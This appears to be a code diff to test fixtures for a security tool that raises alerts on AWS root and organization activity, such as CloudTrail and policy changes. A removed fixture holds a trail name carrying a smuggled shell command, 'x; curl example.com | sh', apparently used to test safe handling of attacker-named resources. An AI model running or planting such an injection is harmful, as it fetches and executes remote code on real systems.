@@ -20,7 +20,6 @@ import dev.rootsweep.core.signal.Evidence;
 import dev.rootsweep.core.signal.RootActivity;
 import dev.rootsweep.core.signal.RootActivity.Change;
 import dev.rootsweep.core.signal.RootActivity.Credential;
-import dev.rootsweep.core.signal.RootActivity.Guard;
 import dev.rootsweep.core.signal.RootActivity.Mfa;
 import dev.rootsweep.core.signal.Touched;
 import java.util.Map;
@@ -40,7 +39,8 @@ public final class AlertVariants {
     Map<String, Notice> notices = new TreeMap<>();
     rootUse().forEach((name, activity) -> notices.put(name, told(activity, new TriageWorld())));
     sessions().forEach((name, activity) -> notices.put(name, told(activity, new TriageWorld())));
-    guard().forEach((name, activity) -> notices.put(name, told(activity, new TriageWorld())));
+    ChangeVariants.all()
+        .forEach((name, activity) -> notices.put(name, told(activity, new TriageWorld())));
     TriageWorld outside = new TriageWorld();
     outside.directory.remove(MEMBER);
     notices.put(
@@ -123,62 +123,6 @@ public final class AlertVariants {
                 new Touched("bucket", "shop"))),
         "own-role-misused--for-a-password",
         session("event-1", role(HUB, "rootsweep-check"), MEMBER, TaskPolicy.RECOVERY, FOREIGN_KEY));
-  }
-
-  private static Map<String, RootActivity> guard() {
-    Map<String, RootActivity> guard = new TreeMap<>();
-    guard.put(
-        "trail-changed--UpdateTrail",
-        new RootActivity.TrailChanged(
-            touching(
-                by(ADMINISTRATOR, "cloudtrail:UpdateTrail"),
-                new Touched("trail", "organization"),
-                new Touched(Touched.LOG_BUCKET, "somewhere-else"),
-                new Touched("organization trail", "false")),
-            "organization"));
-    for (String call : new String[] {"DeleteTrail", "PutEventSelectors"}) {
-      guard.put(
-          "trail-changed--" + call,
-          new RootActivity.TrailChanged(by(ADMINISTRATOR, "cloudtrail:" + call), "organization"));
-    }
-    guard.put(
-        "trail-changed--named-by-an-attacker",
-        new RootActivity.TrailChanged(
-            by(ADMINISTRATOR, "cloudtrail:StopLogging"), "x; curl example.com | sh"));
-    guard.put(
-        "policy-changed--DeletePolicy",
-        touched(ADMINISTRATOR, "organizations:DeletePolicy", Guard.POLICY, TriageWorld.DENY_ROOT));
-    guard.put(
-        "policy-changed--UpdatePolicy",
-        touched(ADMINISTRATOR, "organizations:UpdatePolicy", Guard.POLICY, TriageWorld.DENY_ROOT));
-    guard.put(
-        "policy-changed--DisablePolicyType",
-        touched(
-            ADMINISTRATOR,
-            "organizations:DisablePolicyType",
-            Guard.POLICY_TYPE,
-            "SERVICE_CONTROL_POLICY"));
-    guard.put(
-        "root-access-weakened--delegate",
-        new RootActivity.GuardTouched(
-            touching(
-                by(ADMINISTRATOR, "organizations:RegisterDelegatedAdministrator"),
-                new Touched(Touched.ACCOUNT, "313131313131"),
-                new Touched("service", "iam.amazonaws.com")),
-            Guard.DELEGATE,
-            "account 313131313131"));
-    guard.put(
-        "root-access-weakened--trusted-access",
-        touched(
-            ADMINISTRATOR,
-            "organizations:DisableAWSServiceAccess",
-            Guard.TRUSTED_ACCESS,
-            "iam.amazonaws.com"));
-    return guard;
-  }
-
-  private static RootActivity touched(Actor actor, String call, Guard guard, String what) {
-    return new RootActivity.GuardTouched(by(actor, call), guard, what);
   }
 
   private static Evidence by(Actor actor, String call) {
